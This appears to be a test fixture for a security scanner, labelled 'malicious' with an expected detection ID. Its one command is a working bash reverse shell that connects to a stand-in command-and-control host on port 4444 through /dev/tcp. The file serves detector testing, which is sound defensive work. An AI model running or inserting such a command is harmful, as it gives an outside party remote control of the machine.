# does: a reverse shell by bash's /dev/tcp
# kind: malicious
# expect: SEN-050 critical high
bash -c 'exec 5<>/dev/tcp/c2.night-owl.net/4444; bash <&5 >&5 2>&5'
